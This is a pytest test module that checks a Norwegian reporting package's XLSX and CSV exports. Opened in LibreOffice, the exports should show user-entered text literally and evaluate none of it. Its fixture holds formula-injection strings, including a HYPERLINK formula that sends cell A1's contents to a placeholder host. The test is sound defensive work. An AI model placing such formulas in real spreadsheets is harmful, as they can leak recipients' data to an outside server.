"""LibreOffice opens every export, evaluates nothing in it, and saves workbooks loadable.

Three headless soffice calls for the whole module (one per conversion), each with its own
profile; the output count is checked, since soffice can stop early and still exit 0.
"""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path

import pytest

import tilsyn
from tests.clients import need_client
from tests.factories import valid_call, write_json
from tilsyn.api import ScoringOptions
from tilsyn.export import export

SAMPLE = Path(__file__).resolve().parent.parent / "sample_data"
RISKY = {
    "nav_office": "=1+1",
    "observer": "+1+1",
    "notes": '=HYPERLINK("http://example.invalid/?"&A1;"klikk")',
    "message_text": "@SUM(1;2)",
    "survey": "-2+3",
}

pytestmark = pytest.mark.libreoffice


# Norwegian Excel CSV as LibreOffice should read it: ';', '"', UTF-8, from line 1, nb-NO,
# and (token 13) "evaluate formulas" switched on, the setting an attack would need.
CSV_FILTER = "CSV:59,34,76,1,,1044,false,true,false,false,false,-1,true"


def _convert(files: list[Path], target: str, folder: Path, infilter: str = "") -> list[Path]:
    need_client("soffice")
    out = folder / f"{target}-{files[0].suffix[1:]}"
    profile = folder / f"profile-{out.name}"
    options = [f"--infilter={infilter}"] if infilter else []
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            *options,
            "--convert-to",
            target,
            "--outdir",
            str(out),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    converted = [out / f"{f.stem}.{target}" for f in files]
    assert [p for p in converted if not p.is_file()] == [], "LibreOffice did not convert them"
    return converted


@pytest.fixture(scope="module")
def exports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("lo")
    risky = tilsyn.score_inputs(
        [write_json(folder / "risky.json", [valid_call(**RISKY)])], include_personal_data=True
    )
    for suffix in ("xlsx", "csv"):
        export(risky, folder / f"risky.{suffix}", codes=True, include_personal_data=True)
    expected = {folder / "risky.xlsx": risky.records}
    for survey in ("nks-call", "office"):
        sample = tilsyn.score_inputs(
            [SAMPLE], ScoringOptions(survey=survey), include_personal_data=True
        )
        for lang in ("nb", "nn", "en"):
            path = folder / f"{survey}-{lang}.xlsx"
            export(sample, path, lang=lang, include_personal_data=True)
            expected[path] = sample.records
    return folder, expected


def test_formulas_in_user_text_come_back_literally(exports):
    folder, _ = exports
    (converted,) = _convert([folder / "risky.xlsx"], "csv", folder)
    with converted.open(encoding="utf-8", errors="replace", newline="") as handle:
        header, row = list(csv.reader(handle))[:2]
    cells = dict(zip(header, row, strict=False))
    for field, text in RISKY.items():
        assert cells[field] == text, field
    assert "2" not in (cells["nav_office"], cells["observer"])


def test_the_csv_export_opens_with_nothing_evaluated(exports):
    from openpyxl import load_workbook

    folder, _ = exports
    (converted,) = _convert([folder / "risky.csv"], "xlsx", folder, CSV_FILTER)
    sheet = load_workbook(converted).active
    cells = {h.value: c for h, c in zip(sheet[1], sheet[2], strict=False)}
    for field, text in RISKY.items():
        assert cells[field].data_type == "s" and cells[field].value == "'" + text, field
    assert cells["queue_wait_minutes"].value == 14.5  # the decimal comma read as a number


def test_every_export_opens_and_a_libreoffice_save_still_loads_back(exports):
    folder, expected = exports
    for source, saved in zip(expected, _convert(list(expected), "xlsx", folder), strict=False):
        again = tilsyn.load([saved])
        assert again.ok, (saved.name, [d.message for d in again.diagnostics][:3])
        assert [r.values for r in again.records] == [r.values for r in expected[source]], saved.name
